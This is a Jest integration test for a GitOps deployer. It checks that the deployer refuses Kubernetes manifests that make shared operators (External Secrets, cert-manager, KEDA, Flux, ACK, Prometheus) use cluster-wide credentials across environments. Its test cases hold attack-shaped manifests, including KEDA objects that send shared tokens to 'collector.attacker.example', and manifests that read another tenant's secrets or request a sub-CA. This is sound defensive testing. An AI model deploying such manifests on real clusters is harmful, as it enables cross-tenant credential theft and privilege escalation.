import type { KubernetesTargetConfig } from '../../../controller/config/types';
import type { KubeApplier } from '../../../controller/kube/types';
import { twoEnvironmentInstall } from '../../helpers/install-identities';
import { operatorKinds, planAndApply, type Manifest } from '../../helpers/operator-kinds';
import { kubeKit } from './kube-kit';

/**
 * What a committer to one environment, applied as its own ServiceAccount with the install's RBAC
 * and the operators' kinds granted in its namespace, cannot make a shared operator do with the
 * credentials the whole cluster shares: External Secrets reading through a ClusterSecretStore,
 * cert-manager signing a sub-CA or a SPIFFE ID under a ClusterIssuer, KEDA handing a
 * ClusterTriggerAuthentication's token to a trigger. The sandbox runs none of those operators, only
 * their CRDs (as their charts install them): each test shows that the API server admits the object
 * from a's ServiceAccount (only cairn's check stands between it and the operator), that plan and
 * apply refuse it, and that nothing of the tree reaches the server.
 */
jest.setTimeout(180_000);
const kit = kubeKit('shared-creds');
const suffix = Math.random().toString(36).slice(2, 7);
const install = twoEnvironmentInstall(suffix);
const { a, b } = install;
const repository = (install.config.repository as { url: string }).url;
const hostA = `a-${suffix}.example.com`;

/** The operators' namespaced kinds, as their charts install them. A CRD already served (another test's) is kept. */
const operatorCrds = [
  { group: 'external-secrets.io', version: 'v1', plural: 'externalsecrets', kind: 'ExternalSecret' },
  { group: 'external-secrets.io', version: 'v1alpha1', plural: 'pushsecrets', kind: 'PushSecret' },
  { group: 'external-secrets.io', version: 'v1', plural: 'secretstores', kind: 'SecretStore' },
  { group: 'cert-manager.io', version: 'v1', plural: 'certificates', kind: 'Certificate' },
  { group: 'cert-manager.io', version: 'v1', plural: 'certificaterequests', kind: 'CertificateRequest' },
  { group: 'keda.sh', version: 'v1alpha1', plural: 'scaledobjects', kind: 'ScaledObject' },
  { group: 'keda.sh', version: 'v1alpha1', plural: 'triggerauthentications', kind: 'TriggerAuthentication' },
  { group: 's3.services.k8s.aws', version: 'v1alpha1', plural: 'buckets', kind: 'Bucket' },
  { group: 'services.k8s.aws', version: 'v1alpha1', plural: 'adoptedresources', kind: 'AdoptedResource' },
  { group: 'kustomize.toolkit.fluxcd.io', version: 'v1', plural: 'kustomizations', kind: 'Kustomization' },
  { group: 'source.toolkit.fluxcd.io', version: 'v1', plural: 'buckets', kind: 'Bucket' },
  { group: 'source.toolkit.fluxcd.io', version: 'v1', plural: 'ocirepositories', kind: 'OCIRepository' },
  { group: 'source.toolkit.fluxcd.io', version: 'v1', plural: 'helmrepositories', kind: 'HelmRepository' },
  { group: 'services.k8s.aws', version: 'v1alpha1', plural: 'fieldexports', kind: 'FieldExport' },
  {
    group: 'image.toolkit.fluxcd.io',
    version: 'v1',
    plural: 'imageupdateautomations',
    kind: 'ImageUpdateAutomation',
  },
  { group: 'notification.toolkit.fluxcd.io', version: 'v1beta3', plural: 'alerts', kind: 'Alert' },
  { group: 's3.aws.m.upbound.io', version: 'v1beta1', plural: 'buckets', kind: 'Bucket' },
  { group: 'notification.toolkit.fluxcd.io', version: 'v1beta3', plural: 'providers', kind: 'Provider' },
  { group: 'monitoring.coreos.com', version: 'v1', plural: 'servicemonitors', kind: 'ServiceMonitor' },
  { group: 'monitoring.coreos.com', version: 'v1alpha1', plural: 'scrapeconfigs', kind: 'ScrapeConfig' },
];
const kinds = operatorKinds(kit, install, `operator-kinds-${suffix}`, operatorCrds);
const { admittedAsA } = kinds;

/** An applier of environment a (named `name`, so its inventory is its own), with `overrides` on top. */
function applierOfA(name: string, overrides: Partial<KubernetesTargetConfig> = {}): KubeApplier {
  return kit.applier(
    name,
    kit.target(a.ns, {
      namespaces: [a.ns, a.extra],
      serviceAccount: `${a.ns}/${a.sa}`,
      hosts: [hostA, `*.${hostA}`],
      pruneMaxShare: 1,
      ...overrides,
    }),
    { repository },
  );
}

beforeAll(() => kinds.setUp());

afterAll(() => kinds.tearDown());

/** `object` of a's namespace as the API server holds it (read as the sandbox's admin), or undefined. */
const readBack = (object: Manifest): Promise<unknown> => kit.get(kinds.pathOf(object));

const externalSecret = (name: string, spec: object): Manifest => ({
  apiVersion: 'external-secrets.io/v1',
  kind: 'ExternalSecret',
  metadata: { name },
  spec: { refreshInterval: '1h', target: { name }, ...spec },
});
const pushSecret = (name: string, spec: object): Manifest => ({
  apiVersion: 'external-secrets.io/v1alpha1',
  kind: 'PushSecret',
  metadata: { name },
  spec,
});
const secretStore = (name: string, aws: object): Manifest => ({
  apiVersion: 'external-secrets.io/v1',
  kind: 'SecretStore',
  metadata: { name },
  spec: { provider: { aws: { service: 'SecretsManager', region: 'eu-west-1', ...aws } } },
});
const vaultStore = (name: string, kubernetes: object): Manifest => ({
  apiVersion: 'external-secrets.io/v1',
  kind: 'SecretStore',
  metadata: { name },
  spec: { provider: { vault: { server: 'https://vault.example', path: 'secret', auth: { kubernetes } } } },
});
const serviceMonitor = (name: string, endpoint: object): Manifest => ({
  apiVersion: 'monitoring.coreos.com/v1',
  kind: 'ServiceMonitor',
  metadata: { name },
  spec: { selector: { matchLabels: { app: 'collector' } }, endpoints: [{ port: 'metrics', ...endpoint }] },
});
const scrapeConfig = (name: string, discovery: object): Manifest => ({
  apiVersion: 'monitoring.coreos.com/v1alpha1',
  kind: 'ScrapeConfig',
  metadata: { name },
  spec: { kubernetesSDConfigs: [{ role: 'Pod', ...discovery }] },
});
const certificate = (name: string, spec: object): Manifest => ({
  apiVersion: 'cert-manager.io/v1',
  kind: 'Certificate',
  metadata: { name },
  spec: { secretName: `${name}-tls`, issuerRef: { kind: 'ClusterIssuer', name: 'internal-ca' }, ...spec },
});
const scaledObject = (name: string, authenticationRef: object): Manifest => ({
  apiVersion: 'keda.sh/v1alpha1',
  kind: 'ScaledObject',
  metadata: { name },
  spec: {
    scaleTargetRef: { name: 'web' },
    triggers: [
      {
        type: 'prometheus',
        metadata: { serverAddress: 'http://collector.attacker.example', query: 'up', threshold: '1' },
        authenticationRef,
      },
    ],
  },
});
const kustomization = (name: string, spec: object): Manifest => ({
  apiVersion: 'kustomize.toolkit.fluxcd.io/v1',
  kind: 'Kustomization',
  metadata: { name },
  spec: {
    interval: '10m',
    path: './',
    prune: true,
    sourceRef: { kind: 'GitRepository', name: 'apps' },
    ...spec,
  },
});
/** A Kustomization that names its own ServiceAccounts but no decryption Secret: the controller's --sops-age-secret key decrypts. */
const ageFallbackKustomization = (name: string): Manifest =>
  kustomization(name, {
    serviceAccountName: a.sa,
    decryption: { provider: 'sops', serviceAccountName: a.sa },
  });
/** A Flux source of `kind` reading b's bucket or registry with a cloud `provider`, and `spec` on top. */
const fluxSource = (kind: string, name: string, spec: object): Manifest => ({
  apiVersion: 'source.toolkit.fluxcd.io/v1',
  kind,
  metadata: { name },
  spec: {
    interval: '10m',
    ...(kind === 'Bucket'
      ? { bucketName: `${b.ns}-artifacts`, endpoint: 's3.amazonaws.com' }
      : kind === 'OCIRepository'
        ? { url: `oci://europe-docker.pkg.dev/shared/${b.ns}/manifests`, ref: { tag: 'latest' } }
        : { type: 'oci', url: `oci://registry.azurecr.io/${b.ns}/charts` }),
    ...spec,
  },
});
const awsSecretsTriggerAuthentication = (name: string, podIdentity: object): Manifest => ({
  apiVersion: 'keda.sh/v1alpha1',
  kind: 'TriggerAuthentication',
  metadata: { name },
  spec: {
    awsSecretManager: {
      podIdentity,
      region: 'eu-west-1',
      secrets: [{ parameter: 'password', name: `${b.ns}/database` }],
    },
  },
});
const fieldExport = (name: string, to: object): Manifest => ({
  apiVersion: 'services.k8s.aws/v1alpha1',
  kind: 'FieldExport',
  metadata: { name },
  spec: {
    from: {
      path: '.status.endpoint.address',
      resource: { group: 'rds.services.k8s.aws', kind: 'DBInstance', name: 'db' },
    },
    to: { kind: 'secret', name: 'database', key: 'password', ...to },
  },
});
const imageUpdateAutomation = (name: string, sourceRef: object): Manifest => ({
  apiVersion: 'image.toolkit.fluxcd.io/v1',
  kind: 'ImageUpdateAutomation',
  metadata: { name },
  spec: {
    interval: '10m',
    sourceRef: { kind: 'GitRepository', name: 'apps', ...sourceRef },
    git: { commit: { author: { name: 'bot', email: 'bot@example.com' } }, push: { branch: 'main' } },
    update: { path: './', strategy: 'Setters' },
  },
});
const alert = (name: string, source: object): Manifest => ({
  apiVersion: 'notification.toolkit.fluxcd.io/v1beta3',
  kind: 'Alert',
  metadata: { name },
  spec: {
    providerRef: { name: 'collector' },
    eventSources: [{ kind: 'Kustomization', name: '*', ...source }],
  },
});
const vaultTriggerAuthentication = (name: string, credential?: object): Manifest => ({
  apiVersion: 'keda.sh/v1alpha1',
  kind: 'TriggerAuthentication',
  metadata: { name },
  spec: {
    hashiCorpVault: {
      address: 'https://collector.attacker.example',
      authentication: 'kubernetes',
      role: 'keda',
      mount: 'kubernetes',
      ...(credential ? { credential } : {}),
      secrets: [{ parameter: 'password', key: 'password', path: `secret/data/${b.ns}/database` }],
    },
  },
});
/** A Deployment whose pods mount a cert-manager csi-driver certificate with `attributes`. */
const csiDeployment = (name: string, attributes: Record<string, string>): Manifest => ({
  apiVersion: 'apps/v1',
  kind: 'Deployment',
  metadata: { name },
  spec: {
    replicas: 0,
    selector: { matchLabels: { app: name } },
    template: {
      metadata: { labels: { app: name } },
      spec: {
        containers: [{ name: 'app', image: 'registry.example.com/app:1' }],
        volumes: [
          {
            name: 'tls',
            csi: { driver: 'csi.cert-manager.io', readOnly: true, volumeAttributes: attributes },
          },
        ],
      },
    },
  },
});
const configMap = (name: string): Manifest =>
  ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name }, data: { k: 'v' } }) as Manifest;

/**
 * What each test declares, the field and holder its refusal names, and the same object on the
 * environment's own holder (none where every object of the kind uses the operator's: ACK's).
 */
const cases: readonly (readonly [
  string,
  (name: string) => Manifest,
  string,
  ((name: string) => Manifest) | undefined,
])[] = [
  [
    "an ExternalSecret reading b's database password through the shared ClusterSecretStore",
    (name) =>
      externalSecret(name, {
        secretStoreRef: { kind: 'ClusterSecretStore', name: 'aws-secrets-manager' },
        data: [{ secretKey: 'password', remoteRef: { key: `${b.ns}/database`, property: 'password' } }],
      }),
    'spec.secretStoreRef uses ClusterSecretStore/aws-secrets-manager, a credential the whole cluster shares',
    (name) =>
      externalSecret(name, {
        secretStoreRef: { name: 'team-a-store' },
        data: [{ secretKey: 'password', remoteRef: { key: `${a.ns}/database`, property: 'password' } }],
      }),
  ],
  [
    "an ExternalSecret reading b's Secret through a dataFrom entry's ClusterSecretStore of the Kubernetes provider",
    (name) =>
      externalSecret(name, {
        secretStoreRef: { name: 'team-a-store' },
        dataFrom: [
          {
            extract: { key: 'db' },
            sourceRef: { storeRef: { kind: 'ClusterSecretStore', name: 'cluster-secrets' } },
          },
        ],
      }),
    'spec.dataFrom[0].sourceRef.storeRef uses ClusterSecretStore/cluster-secrets',
    (name) =>
      externalSecret(name, {
        secretStoreRef: { name: 'team-a-store' },
        dataFrom: [{ extract: { key: 'db' } }],
      }),
  ],
  [
    'a PushSecret writing over remote keys through every ClusterSecretStore a label selects',
    (name) =>
      pushSecret(name, {
        secretStoreRefs: [{ kind: 'ClusterSecretStore', labelSelector: { matchLabels: { tier: 'shared' } } }],
        selector: { secret: { name: 'mine' } },
        data: [{ match: { secretKey: 'k', remoteRef: { remoteKey: `${b.ns}/database` } } }],
      }),
    'spec.secretStoreRefs[0] uses ClusterSecretStore/*',
    (name) =>
      pushSecret(name, {
        secretStoreRefs: [{ name: 'team-a-store' }],
        selector: { secret: { name: 'mine' } },
        data: [{ match: { secretKey: 'k', remoteRef: { remoteKey: `${a.ns}/k` } } }],
      }),
  ],
  [
    "a SecretStore of a's namespace leaving out its AWS credentials, so External Secrets reads with its own role",
    (name) => secretStore(name, { role: `arn:aws:iam::123456789012:role/${b.ns}-secrets` }),
    "spec.provider.aws.auth uses ExternalSecretsController/aws, a credential the whole cluster shares: with no credentials of its own External Secrets uses the controller's own identity",
    (name) =>
      secretStore(name, {
        auth: {
          secretRef: {
            accessKeyIDSecretRef: { name: 'aws', key: 'id' },
            secretAccessKeySecretRef: { name: 'aws', key: 'secret' },
          },
        },
      }),
  ],
  [
    "a Vault SecretStore of a's logging in with External Secrets' own ServiceAccount token (Vault's role for it)",
    (name) => vaultStore(name, { mountPath: 'kubernetes', role: 'external-secrets' }),
    "spec.provider.vault.auth.kubernetes uses ExternalSecretsController/kubernetes, a credential the whole cluster shares: with no credentials of its own External Secrets uses the controller's own identity",
    (name) => vaultStore(name, { mountPath: 'kubernetes', role: a.ns, serviceAccountRef: { name: a.sa } }),
  ],
  [
    "a ServiceMonitor sending Prometheus's own ServiceAccount token to a's collector",
    (name) =>
      serviceMonitor(name, { bearerTokenFile: '/var/run/secrets/kubernetes.io/serviceaccount/token' }),
    'spec.endpoints[0].bearerTokenFile uses PrometheusServer/files, a credential the whole cluster shares: Prometheus reads that file of its own pod',
    (name) => serviceMonitor(name, { authorization: { credentials: { name: 'collector', key: 'token' } } }),
  ],
  [
    "a ScrapeConfig discovering every namespace's pods with Prometheus's own identity",
    (name) => scrapeConfig(name, {}),
    'spec.kubernetesSDConfigs[0] uses PrometheusTargets/*, a credential the whole cluster shares: Prometheus discovers and scrapes',
    (name) => scrapeConfig(name, { namespaces: { names: [a.ns] } }),
  ],
  [
    "a ScrapeConfig discovering Prometheus's own namespace (ownNamespace, which is not a's)",
    (name) => scrapeConfig(name, { namespaces: { names: [a.ns], ownNamespace: true } }),
    "spec.kubernetesSDConfigs[0] uses PrometheusTargets/*, a credential the whole cluster shares: Prometheus discovers and scrapes, with its own cluster-wide identity, the pods and Services of those namespaces (another environment's), labelled as this object's and under this environment's relabelings and credentials; name this namespace only in namespaces.names, without ownNamespace",
    (name) => scrapeConfig(name, { namespaces: { names: [a.ns] } }),
  ],
  [
    "a Certificate for a's own host asking the shared CA ClusterIssuer for a sub-CA",
    (name) => certificate(name, { isCA: true, commonName: hostA, dnsNames: [hostA] }),
    'spec.isCA uses ClusterIssuer/internal-ca, a credential the whole cluster shares: it asks for a sub-CA',
    (name) =>
      certificate(name, {
        isCA: true,
        commonName: hostA,
        dnsNames: [hostA],
        issuerRef: { name: 'team-a-ca' },
      }),
  ],
  [
    "a Certificate of the shared ClusterIssuer naming b's workload by its SPIFFE ID (no host, so no claim)",
    (name) => certificate(name, { uris: [`spiffe://cluster.local/ns/${b.ns}/sa/default`] }),
    'spec.uris uses ClusterIssuer/internal-ca',
    (name) =>
      certificate(name, {
        uris: [`spiffe://cluster.local/ns/${a.ns}/sa/default`],
        issuerRef: { name: 'team-a-ca' },
      }),
  ],
  [
    'a KEDA ScaledObject handing the shared ClusterTriggerAuthentication to a server of its own',
    (name) => scaledObject(name, { kind: 'ClusterTriggerAuthentication', name: 'prometheus-token' }),
    'spec.triggers[0].authenticationRef uses ClusterTriggerAuthentication/prometheus-token',
    (name) => scaledObject(name, { name: 'team-a-auth' }),
  ],
  [
    "an ACK Bucket named as b's bucket, which the S3 controller manages with its own IAM role",
    (name) => ({
      apiVersion: 's3.services.k8s.aws/v1alpha1',
      kind: 'Bucket',
      metadata: { name },
      spec: { name: `${b.ns}-data` },
    }),
    'apiVersion uses ACKController/s3, a credential the whole cluster shares: the ACK controller creates, changes and deletes this AWS resource with its own IAM role',
    undefined,
  ],
  [
    "an ACK AdoptedResource taking over b's existing bucket",
    (name) => ({
      apiVersion: 'services.k8s.aws/v1alpha1',
      kind: 'AdoptedResource',
      metadata: { name },
      spec: {
        aws: { nameOrID: `${b.ns}-data` },
        kubernetes: { group: 's3.services.k8s.aws', kind: 'Bucket', metadata: { name } },
      },
    }),
    'spec.aws uses ACKController/s3, a credential the whole cluster shares: the ACK controller adopts an AWS resource that already exists',
    undefined,
  ],
  [
    "a Flux Kustomization without a ServiceAccount, applied with the kustomize-controller's cluster-admin",
    (name) => kustomization(name, {}),
    'spec.serviceAccountName uses FluxController/kustomize-controller, a credential the whole cluster shares: left out, the kustomize-controller applies',
    (name) => kustomization(name, { serviceAccountName: a.sa }),
  ],
  [
    "a Flux Kustomization reading b's GitRepository",
    (name) =>
      kustomization(name, {
        serviceAccountName: a.sa,
        sourceRef: { kind: 'GitRepository', name: 'apps', namespace: b.ns },
      }),
    `spec.sourceRef.namespace uses GitRepository/${b.ns}/apps, a credential the whole cluster shares`,
    (name) =>
      kustomization(name, {
        serviceAccountName: a.sa,
        sourceRef: { kind: 'GitRepository', name: 'apps', namespace: a.ns },
      }),
  ],
  [
    "a Flux Bucket reading b's S3 bucket with the source-controller's own AWS identity",
    (name) => fluxSource('Bucket', name, { provider: 'aws' }),
    'spec.provider uses FluxController/source-controller, a credential the whole cluster shares: with no secretRef or serviceAccountName, the source-controller reads this aws source with its own cloud identity',
    (name) => fluxSource('Bucket', name, { provider: 'aws', serviceAccountName: a.sa }),
  ],
  [
    "a Flux OCIRepository reading b's Artifact Registry with the source-controller's own GCP identity",
    (name) => fluxSource('OCIRepository', name, { provider: 'gcp' }),
    'spec.provider uses FluxController/source-controller, a credential the whole cluster shares: with no secretRef or serviceAccountName, the source-controller reads this gcp source',
    (name) => fluxSource('OCIRepository', name, { provider: 'gcp', secretRef: { name: 'registry' } }),
  ],
  [
    "a Flux OCI HelmRepository reading b's charts with the source-controller's own Azure identity",
    (name) => fluxSource('HelmRepository', name, { provider: 'azure' }),
    'spec.provider uses FluxController/source-controller, a credential the whole cluster shares: with no secretRef, the source-controller reads this azure source',
    (name) => fluxSource('HelmRepository', name, { provider: 'azure', secretRef: { name: 'registry' } }),
  ],
  [
    "a Flux Kustomization decrypting b's sops-encrypted Secret with the kustomize-controller's own KMS identity",
    (name) =>
      kustomization(name, {
        serviceAccountName: a.sa,
        decryption: { provider: 'sops', secretRef: { name: 'age-keys' } },
      }),
    'spec.decryption.serviceAccountName uses FluxController/kustomize-controller-kms, a credential the whole cluster shares: left out, the kustomize-controller decrypts',
    (name) =>
      kustomization(name, {
        serviceAccountName: a.sa,
        decryption: { provider: 'sops', serviceAccountName: a.sa, secretRef: { name: 'age-keys' } },
      }),
  ],
  [
    "a Flux Kustomization decrypting b's age-encrypted Secret with the kustomize-controller's --sops-age-secret key",
    (name) => ageFallbackKustomization(name),
    "spec.decryption.secretRef uses FluxController/kustomize-controller-age, a credential the whole cluster shares: left out, the kustomize-controller decrypts this tree's age-encrypted files with the controller's own age key (its --sops-age-secret",
    (name) =>
      kustomization(name, {
        serviceAccountName: a.sa,
        decryption: { provider: 'sops', serviceAccountName: a.sa, secretRef: { name: 'age-keys' } },
      }),
  ],
  [
    "a KEDA TriggerAuthentication reading b's secret from AWS Secrets Manager with KEDA's own role",
    (name) => awsSecretsTriggerAuthentication(name, { provider: 'aws' }),
    'spec.awsSecretManager.podIdentity uses KedaController/aws, a credential the whole cluster shares: KEDA authenticates with its own cloud identity',
    (name) => awsSecretsTriggerAuthentication(name, { provider: 'aws', identityOwner: 'workload' }),
  ],
  [
    "a KEDA ScaledObject reading b's queue with KEDA's own AWS role (identityOwner: operator), no TriggerAuthentication",
    (name) => ({
      apiVersion: 'keda.sh/v1alpha1',
      kind: 'ScaledObject',
      metadata: { name },
      spec: {
        scaleTargetRef: { name: 'worker' },
        triggers: [
          {
            type: 'aws-sqs-queue',
            metadata: {
              queueURL: `https://sqs.eu-west-1.amazonaws.com/1/${b.ns}-jobs`,
              identityOwner: 'operator',
            },
          },
        ],
      },
    }),
    'spec.triggers[0].metadata.identityOwner uses KedaController/aws, a credential the whole cluster shares: KEDA reads the queue',
    (name) => scaledObject(name, { name: 'team-a-auth' }),
  ],
  [
    'a Deployment whose csi-driver volume asks the shared CA ClusterIssuer for a sub-CA',
    (name) =>
      csiDeployment(name, {
        'csi.cert-manager.io/issuer-kind': 'ClusterIssuer',
        'csi.cert-manager.io/issuer-name': 'internal-ca',
        'csi.cert-manager.io/dns-names': `${hostA}`,
        'csi.cert-manager.io/is-ca': 'true',
      }),
    'spec.template.spec.volumes[0].csi.volumeAttributes["csi.cert-manager.io/is-ca"] uses ClusterIssuer/internal-ca, a credential the whole cluster shares: cert-manager\'s csi-driver asks it for a sub-CA',
    (name) =>
      csiDeployment(name, {
        'csi.cert-manager.io/issuer-kind': 'ClusterIssuer',
        'csi.cert-manager.io/issuer-name': 'internal-ca',
        'csi.cert-manager.io/dns-names': `${hostA}`,
      }),
  ],
  [
    "an ACK FieldExport overwriting the password key of b's Secret with ACK's own identity",
    (name) => fieldExport(name, { namespace: b.ns }),
    `spec.to.namespace uses Secret/${b.ns}/database, a credential the whole cluster shares: the ACK controller patches, with its own identity`,
    (name) => fieldExport(name, { namespace: a.ns }),
  ],
  [
    "a Flux ImageUpdateAutomation pushing to b's GitRepository with b's credentials",
    (name) => imageUpdateAutomation(name, { namespace: b.ns }),
    `spec.sourceRef.namespace uses GitRepository/${b.ns}/apps, a credential the whole cluster shares: the image-automation-controller commits and pushes`,
    (name) => imageUpdateAutomation(name, {}),
  ],
  [
    "a Flux Alert streaming b's Kustomizations' events to a's provider",
    (name) => alert(name, { namespace: b.ns }),
    `spec.eventSources[0].namespace uses Kustomization/${b.ns}/*, a credential the whole cluster shares: the notification-controller sends`,
    (name) => alert(name, { namespace: a.ns }),
  ],
  [
    "a Flux Kustomization applying to the cluster a ConfigMap names, reached with the controller's cloud identity",
    (name) =>
      kustomization(name, { serviceAccountName: a.sa, kubeConfig: { configMapRef: { name: 'prod-eks' } } }),
    'spec.kubeConfig.configMapRef uses FluxController/kustomize-controller/remote, a credential the whole cluster shares: the kustomize-controller reaches the cluster',
    (name) =>
      kustomization(name, {
        serviceAccountName: a.sa,
        kubeConfig: { secretRef: { name: 'prod-kubeconfig' } },
      }),
  ],
  [
    "a Crossplane v2 Bucket managed with the platform's ClusterProviderConfig (providerConfigRef left out)",
    (name) => ({
      apiVersion: 's3.aws.m.upbound.io/v1beta1',
      kind: 'Bucket',
      metadata: { name },
      spec: { forProvider: { region: 'eu-west-1' } },
    }),
    'spec.providerConfigRef uses ClusterProviderConfig/aws.m.upbound.io/default, a credential the whole cluster shares: left out',
    (name) => ({
      apiVersion: 's3.aws.m.upbound.io/v1beta1',
      kind: 'Bucket',
      metadata: { name },
      spec: {
        forProvider: { region: 'eu-west-1' },
        providerConfigRef: { kind: 'ProviderConfig', name: 'team-a' },
      },
    }),
  ],
  [
    "a Flux notification Provider writing commit statuses on b's Azure DevOps repository with the controller's identity",
    (name) => ({
      apiVersion: 'notification.toolkit.fluxcd.io/v1beta3',
      kind: 'Provider',
      metadata: { name },
      spec: { type: 'azuredevops', address: `https://dev.azure.com/org/${b.ns}/_git/apps` },
    }),
    'spec.serviceAccountName uses FluxController/notification-controller, a credential the whole cluster shares: left out (with no spec.secretRef)',
    (name) => ({
      apiVersion: 'notification.toolkit.fluxcd.io/v1beta3',
      kind: 'Provider',
      metadata: { name },
      spec: {
        type: 'azuredevops',
        address: `https://dev.azure.com/org/${a.ns}/_git/apps`,
        serviceAccountName: a.sa,
      },
    }),
  ],
  [
    "a KEDA TriggerAuthentication sending KEDA's own ServiceAccount token to a's Vault address",
    (name) => vaultTriggerAuthentication(name),
    'spec.hashiCorpVault.credential.serviceAccountName uses KedaController/kubernetes, a credential the whole cluster shares: KEDA logs in to the Vault',
    (name) => vaultTriggerAuthentication(name, { serviceAccountName: a.sa }),
  ],
];

describe('a shared operator acting with the credentials the whole cluster shares', () => {
  it.each(cases)('refuses %s, which the API server admits from a', async (_what, make, line) => {
    // given the API server takes the object from a's ServiceAccount (only cairn's check stands
    // between it and the operator)
    const object = make(kit.name('take'));
    expect(admittedAsA(object)).toMatchObject({ ok: true });

    // when a's commit declares it beside an ordinary ConfigMap
    const beside = configMap(kit.name('beside'));
    const result = await planAndApply(kit, applierOfA('a'), { 'take.yaml': object, 'beside.yaml': beside });

    // then plan and apply refuse it naming the file, the object, the field and the holder, and
    // nothing of the tree reaches the server
    for (const r of [result.plan, result.apply]) {
      expect(r.failure).toMatchObject({ code: 'kube.out-of-bounds', retryable: false });
      expect(r.failure!.message).toContain(
        `k8s-resources/take.yaml: ${object.kind}/${a.ns}/${object.metadata.name}: ${line}`,
      );
      expect(r.failure!.message).toContain('kubernetes.sharedCredentials');
    }
    expect(await readBack(object)).toBeUndefined();
    expect(await readBack(beside)).toBeUndefined();
  });

  it('refuses a CertificateRequest to the shared ClusterIssuer for an environment without kubernetes.hosts', async () => {
    // given an environment that lists no hosts (no host claim is checked) and a request the API server admits
    const request: Manifest = {
      apiVersion: 'cert-manager.io/v1',
      kind: 'CertificateRequest',
      metadata: { name: kit.name('csr') },
      spec: {
        request: 'LS0tLS1CRUdJTg==',
        isCA: true,
        issuerRef: { kind: 'ClusterIssuer', name: 'internal-ca' },
      },
    } as Manifest;
    expect(admittedAsA(request)).toMatchObject({ ok: true });

    // when a's commit declares it
    const result = await planAndApply(kit, applierOfA('a-no-hosts', { hosts: undefined }), {
      'csr.yaml': request,
    });

    // then it is refused in plan and apply, naming the signed request, and not written
    for (const r of [result.plan, result.apply])
      expect(r.failure?.message).toContain(
        `CertificateRequest/${a.ns}/${request.metadata.name}: spec.request uses ClusterIssuer/internal-ca`,
      );
    expect(await readBack(request)).toBeUndefined();
  });

  it("applies each object on the environment's own SecretStore, Issuer or TriggerAuthentication", async () => {
    const files = Object.fromEntries(
      cases.flatMap(([, , , own], i) => (own ? [[`own-${i}.yaml`, own(`own-${i}`)]] : [])),
    );
    const result = await planAndApply(kit, applierOfA('a-own'), files);
    expect(result.plan.failure).toBeUndefined();
    expect(result.apply.failure).toBeUndefined();
    for (const object of Object.values(files)) expect(await readBack(object)).toBeDefined();
  });

  it("refuses a PushSecret's labelSelector beside the name of the one store listed (ESO then reads the selector only)", async () => {
    // given a lists one ClusterSecretStore, its own, and the API server takes the PushSecret from a
    const object = pushSecret(kit.name('selector'), {
      secretStoreRefs: [{ kind: 'ClusterSecretStore', name: 'team-a-aws', labelSelector: {} }],
      selector: { secret: { name: 'mine' } },
      data: [{ match: { secretKey: 'k', remoteRef: { remoteKey: `${b.ns}/database` } } }],
    });
    expect(admittedAsA(object)).toMatchObject({ ok: true });

    // when a's commit declares it
    const applier = applierOfA('a-selector', { sharedCredentials: ['ClusterSecretStore/team-a-aws'] });
    const result = await planAndApply(kit, applier, { 'push.yaml': object });

    // then it counts as every store (an empty selector matches all), refused and not written
    for (const r of [result.plan, result.apply])
      expect(r.failure?.message).toContain('spec.secretStoreRefs[0] uses ClusterSecretStore/*');
    expect(await readBack(object)).toBeUndefined();
  });

  it('applies the shared holders an admin lists in kubernetes.sharedCredentials', async () => {
    const listed = [
      'ClusterSecretStore/*',
      'ClusterIssuer/internal-ca',
      'ClusterTriggerAuthentication/prometheus-token',
      'ExternalSecretsController/aws',
      'ACKController/s3',
      'FluxController/kustomize-controller',
      'FluxController/source-controller',
      'FluxController/kustomize-controller-kms',
      'FluxController/kustomize-controller-age',
      `GitRepository/${b.ns}/*`,
      'KedaController/aws',
      'ExternalSecretsController/kubernetes',
      'PrometheusServer/files',
      'PrometheusTargets/*',
      `Secret/${b.ns}/database`,
      `Kustomization/${b.ns}/*`,
      'KedaController/kubernetes',
      'FluxController/kustomize-controller/remote',
      'ClusterProviderConfig/aws.m.upbound.io/default',
      'FluxController/notification-controller',
    ];
    const files = Object.fromEntries(cases.map(([, take], i) => [`listed-${i}.yaml`, take(`listed-${i}`)]));
    const result = await planAndApply(kit, applierOfA('a-listed', { sharedCredentials: listed }), files);
    expect(result.plan.failure).toBeUndefined();
    expect(result.apply.failure).toBeUndefined();
    for (const object of Object.values(files)) expect(await readBack(object)).toBeDefined();
  });
  it('lets the --sops-age-secret fallback through once FluxController/kustomize-controller-age is listed, and nothing else', async () => {
    // given an admin whose kustomize-controller runs without --sops-age-secret lists that holder alone
    const applier = applierOfA('a-age', { sharedCredentials: ['FluxController/kustomize-controller-age'] });
    const ageOnly = ageFallbackKustomization(kit.name('age'));
    const kmsToo = kustomization(kit.name('kms'), {
      serviceAccountName: a.sa,
      decryption: { provider: 'sops' },
    });

    // when a's commit declares a Kustomization without a decryption secretRef, then one without
    // a decryption ServiceAccount either
    const passed = await planAndApply(kit, applier, { 'age.yaml': ageOnly });
    const refused = await planAndApply(kit, applier, { 'age.yaml': ageOnly, 'kms.yaml': kmsToo });

    // then the first applies, and the second is refused on the KMS identity, which that holder does not stand for
    expect(passed.plan.failure).toBeUndefined();
    expect(passed.apply.failure).toBeUndefined();
    expect(await readBack(ageOnly)).toBeDefined();
    for (const r of [refused.plan, refused.apply])
      expect(r.failure?.message).toContain(
        `k8s-resources/kms.yaml: Kustomization/${a.ns}/${kmsToo.metadata.name}: spec.decryption.serviceAccountName uses FluxController/kustomize-controller-kms`,
      );
    expect(await readBack(kmsToo)).toBeUndefined();
  });
});
